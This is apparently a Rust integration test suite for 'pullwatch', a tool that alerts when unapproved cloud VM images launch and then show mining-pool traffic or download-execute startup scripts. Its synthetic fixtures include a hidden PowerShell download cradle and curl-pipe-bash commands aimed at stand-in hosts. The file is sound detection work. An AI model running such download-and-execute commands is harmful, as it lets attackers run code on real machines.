//! AN0692 end to end: control-plane launches, guest and network records, user data,
//! through the real binary, with the exact alerts expected.

use assert_cmd::Command;
use serde_json::{json, Value};
use std::path::{Path, PathBuf};

const T0: i64 = 1_795_165_200; // 2026-11-20T09:00:00Z

fn iso(secs: i64) -> String {
    let out = Command::new("date")
        .args(["-u", "-d", &format!("@{secs}"), "+%Y-%m-%dT%H:%M:%SZ"])
        .output()
        .unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

fn trail(secs: i64, name: &str, req: Value, resp: Value) -> Value {
    json!({"eventVersion":"1.09","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/dev","accountId":"111122223333"},
        "eventTime":iso(T0 + secs),"eventSource":"ec2.amazonaws.com","eventName":name,"awsRegion":"eu-west-1",
        "sourceIPAddress":"198.51.100.7","requestParameters":req,"responseElements":resp,"eventID":format!("e-{name}-{secs}"),
        "readOnly":false,"eventType":"AwsApiCall","recipientAccountId":"111122223333"})
}

fn run_instances(
    secs: i64,
    ami: &str,
    instance: &str,
    ip: &str,
    tags: &[(&str, &str)],
    template: bool,
) -> Value {
    let tag_items: Vec<Value> = tags
        .iter()
        .map(|(k, v)| json!({"key":k,"value":v}))
        .collect();
    let mut req = json!({"instancesSet":{"items":[{"imageId":ami,"minCount":1,"maxCount":1}]},"userData":"<sensitiveDataRemoved>",
        "instanceType":"t3.micro","subnetId":"subnet-0aa"});
    if template {
        req = json!({"instancesSet":{"items":[{"minCount":1,"maxCount":1}]},"launchTemplate":{"launchTemplateId":"lt-0abc","version":"3"}});
    }
    let resp = json!({"reservationId":"r-1","ownerId":"111122223333","instancesSet":{"items":[{"instanceId":instance,"imageId":ami,
        "privateDnsName":format!("ip-{}.eu-west-1.compute.internal", ip.replace('.', "-")),"privateIpAddress":ip,"subnetId":"subnet-0aa",
        "vpcId":"vpc-0bb","launchTime":(T0 + secs) * 1000,"tagSet":{"items":tag_items}}]}});
    trail(secs, "RunInstances", req, resp)
}

fn instance_op(secs: i64, name: &str, instance: &str) -> Value {
    trail(
        secs,
        name,
        json!({"instancesSet":{"items":[{"instanceId":instance}]}}),
        json!({"instancesSet":{"items":[{"instanceId":instance}]}}),
    )
}

struct Dir(tempfile::TempDir);

impl Dir {
    fn new() -> Dir {
        Dir(tempfile::tempdir().unwrap())
    }
    fn file(&self, name: &str, text: &str) -> PathBuf {
        let p = self.0.path().join(name);
        std::fs::write(&p, text).unwrap();
        p
    }
    fn jsonl(&self, name: &str, recs: &[Value]) -> PathBuf {
        self.file(
            name,
            &recs.iter().map(|r| format!("{r}\n")).collect::<String>(),
        )
    }
}

fn scan(config: Option<&str>, d: &Dir, inputs: &[&Path]) -> (Vec<String>, String, String) {
    let mut cmd = Command::cargo_bin("pullwatch").unwrap();
    cmd.args(["scan", "--format", "json"]);
    if let Some(c) = config {
        cmd.arg("--config").arg(d.file("config.yaml", c));
    }
    cmd.args(inputs);
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    let alerts = stdout
        .lines()
        .map(|l| {
            let a: Value = serde_json::from_str(l).unwrap();
            let stages: Vec<String> = a["evidence"]
                .as_array()
                .unwrap()
                .iter()
                .map(|e| {
                    let f = Path::new(e["source"]["path"].as_str().unwrap())
                        .file_name()
                        .unwrap()
                        .to_str()
                        .unwrap()
                        .to_string();
                    format!(
                        "{}@{}:{}",
                        e["stage"].as_str().unwrap(),
                        f,
                        e["source"]["line"]
                    )
                })
                .collect();
            format!(
                "{} {} {} {} {} [{}]",
                a["rule"].as_str().unwrap(),
                a["severity"].as_str().unwrap(),
                a["entity"]["cloud"].as_str().unwrap_or("-"),
                a["entity"]["instance_id"].as_str().unwrap_or("-"),
                a["image"]["ref"].as_str().unwrap_or("-"),
                stages.join(" ")
            )
        })
        .collect();
    (alerts, stdout, String::from_utf8(out.stderr).unwrap())
}

const FLOW_CUSTOM: &str = "version account-id instance-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n";

fn flow_custom(secs: i64, instance: &str, src: &str, dst: &str, dport: u16) -> String {
    format!(
        "5 111122223333 {instance} eni-01 {src} {dst} 43012 {dport} 6 12 3456 {} {} ACCEPT OK\n",
        T0 + secs,
        T0 + secs + 60
    )
}

fn flow_v2(secs: i64, src: &str, dst: &str, dport: u16) -> String {
    format!(
        "2 111122223333 eni-01 {src} {dst} 43012 {dport} 6 12 3456 {} {} ACCEPT OK\n",
        T0 + secs,
        T0 + secs + 60
    )
}

#[test]
fn unapproved_ami_then_stratum_traffic_by_instance_id_and_by_private_ip() {
    let d = Dir::new();
    let trail = d.jsonl(
        "cloudtrail.jsonl",
        &[
            run_instances(
                0,
                "ami-0bad1234567890abc",
                "i-0aaa1111bbbb22223",
                "10.0.1.5",
                &[("env", "prod")],
                false,
            ),
            run_instances(
                10,
                "ami-0bad1234567890abc",
                "i-0ccc3333dddd44445",
                "10.0.1.6",
                &[("env", "prod")],
                false,
            ),
        ],
    );
    let custom = d.file(
        "flows-custom.log",
        &format!(
            "{FLOW_CUSTOM}{}",
            flow_custom(300, "i-0aaa1111bbbb22223", "10.0.1.5", "5.180.0.1", 3333)
        ),
    );
    let v2 = d.file(
        "flows-v2.log",
        &flow_v2(400, "10.0.1.6", "5.180.0.1", 14444),
    );
    let (alerts, stdout, _) = scan(None, &d, &[&trail, &custom, &v2]);
    assert_eq!(
        alerts,
        vec![
            "an0692.chain high aws i-0aaa1111bbbb22223 ami-0bad1234567890abc [launch@cloudtrail.jsonl:1 activity@flows-custom.log:2]",
            "an0692.chain high aws i-0ccc3333dddd44445 ami-0bad1234567890abc [launch@cloudtrail.jsonl:2 activity@flows-v2.log:1]",
        ]
    );
    assert!(
        stdout.contains("well-known mining-pool (stratum) port"),
        "{stdout}"
    );
    assert!(
        stdout.contains("sensitiveDataRemoved"),
        "the withheld user data is called out: {stdout}"
    );

    // The same from an approved AMI: nothing.
    let cfg = "approved_image_catalog:\n  aws:\n    image_ids: [ami-0bad1234567890abc]\n";
    assert_eq!(
        scan(Some(cfg), &d, &[&trail, &custom, &v2]).0,
        Vec::<String>::new()
    );
}

#[test]
fn after_the_window_and_outside_the_tag_scope_nothing() {
    let d = Dir::new();
    let trail = d.jsonl(
        "cloudtrail.jsonl",
        &[run_instances(
            0,
            "ami-0bad1234567890abc",
            "i-0aaa1111bbbb22223",
            "10.0.1.5",
            &[("env", "dev")],
            false,
        )],
    );
    let late = d.file(
        "late.log",
        &format!(
            "{FLOW_CUSTOM}{}",
            flow_custom(
                31 * 60,
                "i-0aaa1111bbbb22223",
                "10.0.1.5",
                "5.180.0.1",
                3333
            )
        ),
    );
    assert_eq!(scan(None, &d, &[&trail, &late]).0, Vec::<String>::new());
    let early = d.file(
        "early.log",
        &format!(
            "{FLOW_CUSTOM}{}",
            flow_custom(60, "i-0aaa1111bbbb22223", "10.0.1.5", "5.180.0.1", 3333)
        ),
    );
    assert_eq!(scan(None, &d, &[&trail, &early]).0.len(), 1);
    let scoped = "vm_tag_scope:\n  tags:\n    env: [prod]\n";
    let (alerts, _, stderr) = scan(Some(scoped), &d, &[&trail, &early]);
    assert_eq!(alerts, Vec::<String>::new());
    assert!(stderr.contains("alerts: none"), "{stderr}");
}

#[test]
fn launch_template_launches_take_the_image_from_the_response() {
    let d = Dir::new();
    let trail = d.jsonl(
        "cloudtrail.jsonl",
        &[run_instances(
            0,
            "ami-0feed000000000000",
            "i-0eee5555ffff66667",
            "10.0.3.9",
            &[],
            true,
        )],
    );
    let flows = d.file("f.log", &flow_v2(120, "10.0.3.9", "169.254.169.254", 80));
    assert_eq!(
        scan(None, &d, &[&trail, &flows]).0,
        vec!["an0692.chain high aws i-0eee5555ffff66667 ami-0feed000000000000 [launch@cloudtrail.jsonl:1 activity@f.log:1]"]
    );
}

#[test]
fn stop_user_data_change_start_is_a_first_boot_again() {
    let d = Dir::new();
    let day = 86_400;
    let trail = d.jsonl(
        "cloudtrail.jsonl",
        &[
            run_instances(
                0,
                "ami-0bad1234567890abc",
                "i-0aaa1111bbbb22223",
                "10.0.1.5",
                &[],
                false,
            ),
            instance_op(2 * day, "StopInstances", "i-0aaa1111bbbb22223"),
            trail(
                2 * day + 60,
                "ModifyInstanceAttribute",
                json!({"instanceId":"i-0aaa1111bbbb22223","userData":"<sensitiveDataRemoved>"}),
                Value::Null,
            ),
            instance_op(2 * day + 120, "StartInstances", "i-0aaa1111bbbb22223"),
        ],
    );
    let flows = d.file(
        "f.log",
        &flow_v2(2 * day + 300, "10.0.1.5", "5.180.0.1", 3333),
    );
    assert_eq!(
        scan(None, &d, &[&trail, &flows]).0,
        vec!["an0692.chain high aws i-0aaa1111bbbb22223 ami-0bad1234567890abc [launch@cloudtrail.jsonl:1 user-data-change@cloudtrail.jsonl:3 start@cloudtrail.jsonl:4 activity@f.log:1]"]
    );
    // Without the user-data change, two days later is long past the first boot.
    let plain = d.jsonl(
        "plain.jsonl",
        &[
            run_instances(
                0,
                "ami-0bad1234567890abc",
                "i-0aaa1111bbbb22223",
                "10.0.1.5",
                &[],
                false,
            ),
            instance_op(2 * day + 120, "StartInstances", "i-0aaa1111bbbb22223"),
        ],
    );
    assert_eq!(scan(None, &d, &[&plain, &flows]).0, Vec::<String>::new());
}

#[test]
fn user_data_from_the_instance_is_inspected_and_secrets_never_leave_unredacted() {
    let d = Dir::new();
    let trail = d.jsonl(
        "cloudtrail.jsonl",
        &[run_instances(
            0,
            "ami-0bad1234567890abc",
            "i-0aaa1111bbbb22223",
            "10.0.1.5",
            &[],
            false,
        )],
    );
    let script = "#!/bin/bash\nexport AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\napt-get install -y nginx\ncurl -fsSL https://deploy:hunter2@get.example.net/boot.sh | bash\n";
    let b64 = base64_encode(script.as_bytes());
    let attr = d.file(
        "user-data.json",
        &format!(
            "{}\n",
            json!({"InstanceId":"i-0aaa1111bbbb22223","UserData":{"Value":b64}})
        ),
    );
    let (alerts, stdout, _) = scan(None, &d, &[&trail, &attr]);
    assert_eq!(
        alerts,
        vec!["an0692.user_data high aws i-0aaa1111bbbb22223 ami-0bad1234567890abc [user-data@user-data.json:1 launch@cloudtrail.jsonl:1]"]
    );
    assert!(stdout.contains("download-execute"), "{stdout}");
    assert!(!stdout.contains("AKIAIOSFODNN7EXAMPLE"), "{stdout}");
    assert!(!stdout.contains("hunter2"), "{stdout}");
    assert!(
        !stdout.contains("apt-get install"),
        "ordinary configuration is not quoted: {stdout}"
    );
    // No output format lets the secrets through.
    for format in ["text", "ocsf", "html"] {
        let out = Command::cargo_bin("pullwatch")
            .unwrap()
            .args(["scan", "--format", format])
            .arg(&trail)
            .arg(&attr)
            .output()
            .unwrap();
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(all.contains("REDACTED"), "{format}: {all}");
        assert!(!all.contains("AKIAIOSFODNN7EXAMPLE"), "{format}: {all}");
        assert!(!all.contains("hunter2"), "{format}: {all}");
    }
}

fn base64_encode(b: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::new();
    for c in b.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= c.len() {
                s.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                s.push('=');
            }
        }
    }
    s
}

const SUB: &str = "8a4de8b5-095c-47d0-a96f-a75130c61d53";

fn azure_vm_write(secs: i64, vm: &str, image_reference: Value, computer: &str) -> Value {
    let body = json!({"location":"westeurope","tags":{"env":"prod"},"properties":{"hardwareProfile":{"vmSize":"Standard_B2s"},
        "storageProfile":{"imageReference":image_reference,"osDisk":{"createOption":"FromImage"}},
        "osProfile":{"computerName":computer,"adminUsername":"azureuser"}}});
    json!({"time":iso(T0 + secs).replace('Z', ".1234567Z"),
        "resourceId":format!("/SUBSCRIPTIONS/{}/RESOURCEGROUPS/RG1/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/{}", SUB.to_uppercase(), vm.to_uppercase()),
        "operationName":"MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE","category":"Administrative","resultType":"Start","resultSignature":"Started.",
        "callerIpAddress":"198.51.100.30","correlationId":format!("c0ffee00-0000-0000-0000-{:012}", secs),
        "identity":{"claims":{"http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn":"ops@contoso.example"}},
        "level":"Information","location":"westeurope","properties":{"statusCode":"Created","requestbody":body.to_string()}})
}

fn sysmon(secs: i64, computer: &str, image: &str, cmd: &str, parent: &str) -> Value {
    let utc = iso(T0 + secs).replace('T', " ").replace('Z', ".000");
    json!({"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,
        "TimeCreated":{"#attributes":{"SystemTime":iso(T0 + secs)}},"EventRecordID":secs,"Computer":computer,"Channel":"Microsoft-Windows-Sysmon/Operational"},
        "EventData":{"UtcTime":utc,"ProcessGuid":format!("{{1a2b3c4d-0000-1111-2222-{:012}}}", secs),"ProcessId":4242,"Image":image,"CommandLine":cmd,
            "User":"NT AUTHORITY\\SYSTEM","ParentProcessId":1000,"ParentImage":parent}}})
}

#[test]
fn azure_unapproved_publisher_with_a_download_cradle_on_first_boot() {
    let d = Dir::new();
    let cradle = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\"";
    let guest = d.jsonl(
        "sysmon.jsonl",
        &[
            sysmon(
                200,
                "WEB1",
                "C:\\Windows\\System32\\svchost.exe",
                "svchost.exe -k netsvcs",
                "C:\\Windows\\System32\\services.exe",
            ),
            sysmon(
                300,
                "WEB1.contoso.local",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                cradle,
                "C:\\WindowsAzure\\GuestAgent\\WaAppAgent.exe",
            ),
        ],
    );
    let shady = d.jsonl(
        "activity.jsonl",
        &[azure_vm_write(
            0,
            "vm-web1",
            json!({"publisher":"shady-labs","offer":"win-tools","sku":"2022","version":"latest"}),
            "web1",
        )],
    );
    let vm = format!("/subscriptions/{SUB}/resourcegroups/rg1/providers/microsoft.compute/virtualmachines/vm-web1");
    let (alerts, stdout, _) = scan(None, &d, &[&shady, &guest]);
    assert_eq!(
        alerts,
        vec![format!("an0692.chain high azure {vm} shady-labs:win-tools:2022:latest [launch@activity.jsonl:1 activity@sysmon.jsonl:2]")]
    );
    assert!(
        stdout.contains(
            "marketplace publisher shady-labs is not in approved_image_catalog.azure.publishers"
        ),
        "{stdout}"
    );
    assert!(stdout.contains("download-execute"), "{stdout}");

    // The same guest behaviour on an image from an approved publisher: nothing.
    let canonical = d.jsonl(
        "activity2.jsonl",
        &[azure_vm_write(0, "vm-web1", json!({"publisher":"MicrosoftWindowsServer","offer":"WindowsServer","sku":"2022-datacenter","version":"latest"}), "web1")],
    );
    assert_eq!(
        scan(None, &d, &[&canonical, &guest]).0,
        Vec::<String>::new()
    );
}

fn gcp_insert(secs: i64, id: &str, source_image: &str, startup: &str) -> Value {
    json!({"insertId":format!("i{secs}"),"logName":"projects/p1/logs/cloudaudit.googleapis.com%2Factivity",
        "operation":{"id":format!("operation-{secs}"),"producer":"compute.googleapis.com","first":true},
        "protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","authenticationInfo":{"principalEmail":"dev@example.com"},
            "serviceName":"compute.googleapis.com","methodName":"v1.compute.instances.insert",
            "resourceName":format!("projects/p1/zones/us-central1-a/instances/vm-{id}"),
            "request":{"@type":"type.googleapis.com/compute.instances.insert","name":format!("vm-{id}"),
                "disks":[{"boot":true,"initializeParams":{"sourceImage":source_image}}],
                "metadata":{"items":[{"key":"startup-script","value":startup}]},
                "networkInterfaces":[{"network":"global/networks/default","networkIP":"10.128.0.7"}]},
            "response":{"@type":"type.googleapis.com/operation","status":"RUNNING","targetId":id}},
        "resource":{"type":"gce_instance","labels":{"instance_id":id,"project_id":"p1","zone":"us-central1-a"}},
        "severity":"NOTICE","timestamp":iso(T0 + secs)})
}

#[test]
fn gcp_foreign_project_image_with_a_curl_pipe_bash_startup_script() {
    let d = Dir::new();
    let audit = d.jsonl(
        "gcp.jsonl",
        &[
            gcp_insert(0, "1111111111111111111", "https://www.googleapis.com/compute/v1/projects/evil-proj/global/images/miner-img", "#!/bin/bash\ncurl -s http://198.51.100.9/x | bash\n"),
            gcp_insert(60, "2222222222222222222", "projects/debian-cloud/global/images/family/debian-12", "#!/bin/bash\napt-get update\napt-get install -y nginx\nsystemctl enable --now nginx\n"),
        ],
    );
    let (alerts, stdout, _) = scan(None, &d, &[&audit]);
    assert_eq!(
        alerts,
        vec!["an0692.user_data high gcp 1111111111111111111 projects/evil-proj/global/images/miner-img [launch@gcp.jsonl:1]"]
    );
    assert!(
        stdout.contains("project evil-proj, which is not in approved_image_catalog.gcp.projects"),
        "{stdout}"
    );
    assert!(
        stdout.contains("curl -s http://198.51.100.9/x | bash"),
        "{stdout}"
    );
}

fn pullwatch(args: &[&std::ffi::OsStr]) -> std::process::Output {
    Command::cargo_bin("pullwatch")
        .unwrap()
        .args(args)
        .output()
        .unwrap()
}

#[test]
fn with_a_baseline_a_vendor_image_never_seen_launching_counts_as_unapproved() {
    let d = Dir::new();
    let old = "projects/debian-cloud/global/images/debian-12-bookworm-v20261101";
    let new = "projects/debian-cloud/global/images/debian-12-bookworm-v20261120";
    let history = d.jsonl(
        "history.jsonl",
        &[gcp_insert(
            -86_400,
            "3333333333333333333",
            old,
            "#!/bin/bash\ntrue\n",
        )],
    );
    let baseline = d.0.path().join("baseline.json");
    let out = pullwatch(&[
        "baseline".as_ref(),
        "learn".as_ref(),
        "--baseline".as_ref(),
        baseline.as_os_str(),
        history.as_os_str(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("1 VM images added"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let flows = d.file("flows.log", &flow_v2(120, "10.128.0.7", "5.180.0.1", 3333));
    let scan_with = |launch: &Path, extra: &[&std::ffi::OsStr]| {
        let mut args: Vec<&std::ffi::OsStr> =
            vec!["scan".as_ref(), "--format".as_ref(), "json".as_ref()];
        args.extend_from_slice(extra);
        args.push(launch.as_os_str());
        args.push(flows.as_os_str());
        let out = pullwatch(&args);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    let known = d.jsonl(
        "known.jsonl",
        &[gcp_insert(
            0,
            "5555555555555555555",
            old,
            "#!/bin/bash\ntrue\n",
        )],
    );
    let only_new = d.jsonl(
        "only-new.jsonl",
        &[gcp_insert(
            0,
            "4444444444444444444",
            new,
            "#!/bin/bash\ntrue\n",
        )],
    );
    // Without a baseline the vendor project approves the new image; with one, the image
    // it has seen launching stays approved.
    assert_eq!(scan_with(&only_new, &[]), "");
    assert_eq!(
        scan_with(&known, &["--baseline".as_ref(), baseline.as_os_str()]),
        ""
    );
    let stdout = scan_with(&only_new, &["--baseline".as_ref(), baseline.as_os_str()]);
    let a: Value = serde_json::from_str(stdout.lines().next().expect("one alert")).unwrap();
    assert_eq!(stdout.lines().count(), 1);
    assert_eq!(a["rule"], "an0692.chain");
    assert_eq!(a["entity"]["instance_id"], "4444444444444444444");
    let why = a["reasons"][0].as_str().unwrap();
    assert!(
        why.starts_with(&format!("image {new} was never seen launching before")),
        "{why}"
    );
    assert!(
        why.contains(
            "approved only because project debian-cloud is in approved_image_catalog.gcp.projects"
        ),
        "{why}"
    );
}

#[test]
fn images_copied_in_are_called_out() {
    let d = Dir::new();
    let trail = d.jsonl(
        "cloudtrail.jsonl",
        &[
            trail(-600, "CopyImage", json!({"sourceImageId":"ami-0src0000000000000","sourceRegion":"ap-southeast-1","name":"golden"}), json!({"imageId":"ami-0c0p1ed000000000a"})),
            run_instances(0, "ami-0c0p1ed000000000a", "i-0aaa1111bbbb22223", "10.0.1.5", &[], false),
        ],
    );
    let flows = d.file("f.log", &flow_v2(120, "10.0.1.5", "5.180.0.1", 3333));
    let (alerts, stdout, _) = scan(None, &d, &[&trail, &flows]);
    assert_eq!(
        alerts,
        vec!["an0692.chain high aws i-0aaa1111bbbb22223 ami-0c0p1ed000000000a [launch@cloudtrail.jsonl:2 activity@f.log:1]"]
    );
    assert!(
        stdout.contains(
            "image ami-0c0p1ed000000000a was copied from ami-0src0000000000000 in ap-southeast-1"
        ),
        "{stdout}"
    );
}
